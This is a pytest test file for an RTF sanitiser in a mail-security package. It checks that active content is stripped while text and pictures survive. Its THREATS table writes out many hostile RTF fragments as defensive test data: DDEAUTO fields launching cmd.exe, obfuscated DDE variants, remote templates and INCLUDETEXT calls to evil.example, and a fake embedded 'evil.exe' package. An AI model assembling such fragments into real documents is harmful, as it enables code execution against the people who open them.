"""RTF: objects, templates, macros and fields that act are gone; text, formatting and ordinary pictures stay."""

from __future__ import annotations

import io
import re
import shutil
import subprocess

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from oletools.rtfobj import RtfObjParser
from PIL import Image

from mailguard.formats import codes
from mailguard.formats.detect import detect
from mailguard.formats.disarmed import KEPT, Options, Refused
from mailguard.formats.rtf.disarm import disarm
from mailguard.message.content import Content


def image(kind="PNG"):
    output = io.BytesIO()
    Image.linear_gradient("L").resize((8, 8)).convert("RGB").save(output, kind)
    return output.getvalue()


def document(inner):
    return rb"{\rtf1\ansi\deff0{\fonttbl{\f0 Arial;}}\f0 before " + inner + rb" after\par}"


def objects(data):
    """What oletools finds, our detection apart."""
    parser = RtfObjParser(data)
    parser.parse()
    return parser.objects


def field(instruction, result=b"result"):
    return rb"{\field{\*\fldinst {" + instruction + rb"}}{\fldrslt {" + result + rb"}}}"


def package():
    from oletools.oleobj import OleObject  # noqa: F401 (the peer that reads it)

    name, payload = b"evil.exe\0", b"MZ evil"
    native = (
        b"\2\0"
        + name
        + name
        + b"\0\0\3\0"
        + len(name).to_bytes(4, "little")
        + name
        + len(payload).to_bytes(4, "little")
        + payload
    )
    header = b"\1\5\0\0\2\0\0\0\x08\0\0\0Package\0" + bytes(8)
    return (header + len(native).to_bytes(4, "little") + native).hex().encode()


OBJECT = rb"{\object\objemb\objw100\objh100{\*\objclass Package}{\*\objdata " + package() + rb"}{\result {shown}}}"

ORDINARY = document(
    rb"{\b bold} \u12354?\'82\'a0 {\*\bkmkstart a}x{\*\bkmkend a}"
    + field(rb'HYPERLINK "https://example.com/a?b=c" \\o "tip"')
    + field(rb"PAGE  \\* MERGEFORMAT")
    + field(rb'HYPERLINK "#a"')
    + rb"{\*\listtable{\list{\listlevel{\leveltext \'02\'00.;}{\levelnumbers\'01;}}{\listlevel{\leveltext\'13x;}}}}"
    + field(rb'TOC \\t "\u35211 ?,1"')
    + rb"{\*\shppict{\pict\picw8\pich8\pngblip "
    + image().hex().encode()
    + rb"}}{\shp{\*\shpinst\shpleft0{\sp{\sn shapeType}{\sv 202}}{\sp{\sn wzName}{\sv Box}}{\shptxt box}}}"
    + rb"{\footnote note}{\info{\author A}}"
)


def test_an_ordinary_document_comes_back_as_it_came():
    result = disarm(ORDINARY, "application/rtf", Options())
    assert (result.removed, result.data is ORDINARY, result.extension) == ((), True, "rtf")


THREATS = {
    "object": (OBJECT, "embedded-object"),
    "bare-object": (rb"{\object\objdata 0105000002000000}", "embedded-object"),
    "split-word": (rb"{\object{\*\obj" + b"\n" + rb"data 0105000002}}", "embedded-object"),
    "broken-word": (rb"{\obj\'65ct{\*\objdata 01050000}}", "embedded-object"),
    "broken-data": (rb"{\object{\*\objdata 0105{\*\foo bar}0000\'41{\bin3 {}}02}}", "embedded-object"),
    "long-number": (rb"{\object\objdata000000000000000001 0105}", "embedded-object"),
    "unclosed": (rb"{\object{\*\objdata 010500000200000008000000", "embedded-object"),
    "ocx": (rb"{\object\objocx{\*\objdata 01050000}}", "embedded-object"),
    "update": (rb"{\object\objautlink\objupdate{\*\objdata 01050000}}", "embedded-object"),
    "template": (rb"{\*\template http://evil.example/x.dotm}", "remote-template"),
    "plain-template": (rb"{\template \\\\evil.example\\x.dotm}", "remote-template"),
    "dde": (field(rb'DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'), "dde"),
    "split-dde": (rb"{\field{\*\fldinst {DD}{\b EAU}TO evil}{\fldrslt x}}", "dde"),
    "hex-dde": (field(rb"\'44\'44E evil"), "dde"),
    "unicode-dde": (field(rb"\uc0\u68 \u68 \u69  evil"), "dde"),
    "quoted-dde": (
        rb"{\field{\*\fldinst {{\field{\*\fldinst QUOTE 68 68 69}{\fldrslt DDE}} evil}}{\fldrslt x}}",
        "dde",
    ),
    "dde behind a substitute": (field(rb"\uc10\u32 PAGE      DDEAUTO evil"), "dde"),
    "dde behind an alternative": (field(rb"{\upr{PAGE }{\*\ud{DDEAUTO evil}}}"), "dde"),
    "dde behind a bookmark": (field(rb"{\*\bkmkstart PAGE }{DDEAUTO evil}"), "dde"),
    "dde behind a footnote": (field(rb"{\footnote PAGE }DDEAUTO evil"), "dde"),
    "dde behind deleted text": (field(rb"{\deleted PAGE }DDEAUTO evil"), "dde"),
    "dde by marks": (rb"{\'13 DDEAUTO\'14 x\'15}", "ambiguous-markup"),
    "dde by unicode marks": (rb"{\u19 DDEAUTO\u20 x\u21 }", "ambiguous-markup"),
    "link behind a substitute": (field(rb'HYPERLINK \uc24\u32 "http://ok/" \\o "        \\l "a"'), "hyperlink"),
    "include": (field(rb'INCLUDETEXT "http://evil.example/x"'), "external-relationship"),
    "picture": (field(rb'INCLUDEPICTURE "http://evil.example/x.png" \\d'), "remote-image"),
    "link": (field(rb"LINK Excel.Sheet.8 evil"), "external-relationship"),
    "macrobutton": (field(rb"MACROBUTTON evil click"), "macro"),
    "unc": (field(rb'HYPERLINK "\\\\\\\\evil.example\\\\x"'), "hyperlink"),
    "protocol": (field(rb'HYPERLINK "ms-word:ofe|u|http://evil.example"'), "hyperlink"),
    "macro": (rb"{\*\formfield{\fftype0{\*\ffentrymcr evil}}}", "macro"),
    "store": (rb"{\*\datastore 0105000002000000d0cf11e0}", "unknown-part"),
    "font": (rb"{\fonttbl{\f1{\*\fontemb{\*\fontfile evil.ttf}00}}}", "embedded-font"),
    "merge": (rb"{\*\mailmerge{\*\mmconnectstr evil}}", "external-relationship"),
    "mail-data": (rb"{\*\mmdatasource evil}", "external-relationship"),
    "unknown": (rb"{\*\evilword text}", "unknown-part"),
    "metafile": (rb"{\pict\wmetafile8 0100090000}", "unknown-part"),
    "bad-picture": (rb"{\pict\pngblip 89504e470d0a1a0a}", "unknown-part"),
    "binary": (rb"{\bin7 {\evil}}", "unknown-part"),
    "fragments": (rb"{\shp{\*\shpinst{\sp{\sn pFragments}{\sv 1;1;01020304}}}}", "active-content"),
    "same-group": (rb"{\shp{\*\shpinst{\sp\sn pibName\sv http://evil.example/x}}}", "ambiguous-markup"),
    "picture-name": (rb"{\shp{\*\shpinst{\sp{\sn pibName}{\sv http://evil.example/x}}}}", "unknown-part"),
    "shape-link": (rb"{\shp{\*\shpinst{\sp{\sn pihlShape}{\sv {\*\hl{\hlsrc evil}}}}}}", "hyperlink"),
    "next-file": (rb"{\*\nextfile evil.rtf}", "remote-template"),
    "double-octet": (b"\x83" + rb"\\object evil", "ambiguous-markup"),
    "nul": (b"text\0text", "repaired"),
    "symbol": (rb"\;text", "repaired"),
}
SEEN_BEFORE = ("object", "bare-object", "broken-data", "unclosed", "ocx", "update")


@pytest.mark.parametrize("name", SEEN_BEFORE)
def test_rtfobj_finds_the_objects_before(name):
    assert objects(document(THREATS[name][0]))


@pytest.mark.parametrize("name", ["object", "template", "dde", "split-dde", "hex-dde"])
def test_the_detection_finds_the_threat_before(name):
    assert detect(Content.of(document(THREATS[name][0])), ["a.rtf"], "application/rtf").dangerous


@pytest.mark.parametrize("name", sorted(THREATS))
def test_what_acts_is_gone_and_the_text_stays(name):
    threat, code = THREATS[name]
    result = disarm(document(threat), "application/rtf", Options())
    assert code in result.removed
    assert set(result.removed) <= set(codes.REMOVED)
    assert b"before" in result.data
    assert b"after" in result.data or name in {"unclosed", "long-number"}
    assert objects(result.data) == []
    assert not re.search(rb"\\(?:obj|template|bin|ff\w+mcr|fontemb|\*\\evil)", result.data)
    assert b"evil" not in result.data or name in {"double-octet", "broken-word"}
    assert detect(Content.of(result.data), ["a.rtf"], "application/rtf").dangerous == ()
    assert disarm(result.data, "application/rtf", Options()).data is result.data


def test_the_picture_that_an_object_shows_stays():
    assert b"shown" in disarm(document(OBJECT), "application/rtf", Options()).data


def test_the_result_of_a_field_that_goes_stays():
    result = disarm(document(field(b"DDEAUTO evil x", b"what was shown")), "application/rtf", Options())
    assert b"what was shown" in result.data
    assert b"field" not in result.data


def test_links_go_where_they_must():
    result = disarm(ORDINARY, "application/rtf", Options(KEPT - {"hyperlinks"}))
    assert result.removed == ("hyperlink",)
    assert b"example.com" not in result.data
    assert b"PAGE" in result.data


def test_metadata_and_comments_go_where_they_must():
    data = document(rb"{\info{\author Somebody}}x{\*\atnid ab}{\*\annotation a remark}")
    assert disarm(data, "application/rtf", Options()).data is data
    result = disarm(data, "application/rtf", Options(frozenset()))
    assert result.removed == ("comment", "metadata")
    assert b"Somebody" not in result.data
    assert b"remark" not in result.data


@pytest.mark.parametrize("kind", ["PNG", "JPEG"])
def test_a_binary_picture_becomes_a_hexadecimal_one(kind):
    data = image(kind)
    result = disarm(
        document(rb"{\pict\%sblip\bin%d " % (kind.lower().encode(), len(data)) + data + b"}"), "", Options()
    )
    assert data.hex().encode() in result.data
    assert b"\\bin" not in result.data


def test_what_hangs_behind_a_picture_is_gone():
    data = image() + b"PK hidden"
    result = disarm(document(rb"{\pict\pngblip " + data.hex().encode() + b"}"), "", Options())
    assert result.removed == ("trailing-data",)
    assert b"hidden".hex().encode() not in result.data
    assert image()[:16].hex().encode() in result.data


def test_words_never_grow_together():
    result = disarm(rb"{\rtf1\b{\*\evil x}in5 abcde\par}", "", Options())
    assert result.data == rb"{\rtf1 \b in5 abcde\par }"


def test_what_follows_the_document_is_gone():
    result = disarm(document(b"") + b"PK\3\4", "", Options())
    assert result.removed == ("trailing-data",)
    assert b"PK" not in result.data


def test_groups_are_closed():
    result = disarm(rb"{\rtf1 {\b {\i text", "", Options())
    assert result.data.count(b"{") == result.data.count(b"}")


@pytest.mark.parametrize("begin", [rb"{\rt ", rb"{\rtf ", b"\n" + rb"{\rtf1 ", b"\xef\xbb\xbf" + rb"{\rtf1 "])
def test_odd_beginnings_are_written_as_they_should_be(begin):
    result = disarm(begin + b"text}", "", Options())
    assert result.data == rb"{\rtf1 text}"
    assert result.removed == ("repaired",)


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"", "damaged"),
        (b"text", "damaged"),
        (rb"{\rtf1 " + b"{" * 100_000, "bomb"),
        (rb"{\rtf1 " + rb"\b" * 2_100_000 + b"}", "over-limit"),
        (bytes((64 << 20) + 1), "over-limit"),
    ],
    ids=["nothing", "text", "deep", "many", "large"],
)
def test_what_is_not_understood_is_refused(data, code):
    with pytest.raises(Refused) as caught:
        disarm(data, "", Options())
    assert caught.value.code == code


@settings(max_examples=200, deadline=None)
@given(
    st.sampled_from([ORDINARY, *(document(threat) for threat, _ in THREATS.values())]),
    st.lists(
        st.tuples(
            st.integers(0, 5_000),
            st.sampled_from(
                [b"{", b"}", b"\\", rb"\*", rb"\bin9 ", rb"\'7b", b"\x83", b"\0", rb"\objdata", rb"\fldinst", rb"\u-1 "]
            ),
        ),
        max_size=5,
    ),
)
def test_nothing_but_a_refusal_escapes_and_twice_is_once(sample, changes):
    data = sample
    for somewhere, new in changes:
        position = somewhere % len(data)
        data = data[:position] + new + data[position:]
    try:
        result = disarm(data, "", Options())
    except Refused as refused:
        assert refused.code in codes.REFUSALS  # noqa: PT017
    else:
        assert objects(result.data) == []
        assert not re.search(rb"\\(?:obj|bin)", result.data.replace(b"\\\\", b""))
        assert disarm(result.data, "", Options()).data == result.data


def text(path, folder):
    subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{folder}/profile", "--headless", "--convert-to", "txt:Text", "--outdir", str(folder), str(path)],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    return path.with_suffix(".txt").read_text("utf-8", "replace")


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_opens_the_result_and_finds_the_text(tmp_path):
    whole = b" ".join(
        THREATS[name][0] for name in ("object", "template", "dde", "include", "store", "metafile", "fragments")
    )
    result = disarm(document(whole + ORDINARY[len(document(b"")) - 20 : -1]), "", Options())
    path = tmp_path / "result.rtf"
    path.write_bytes(result.data)
    found = text(path, tmp_path)
    assert "before" in found
    assert "after" in found
    assert "shown" in found
    assert "evil" not in found
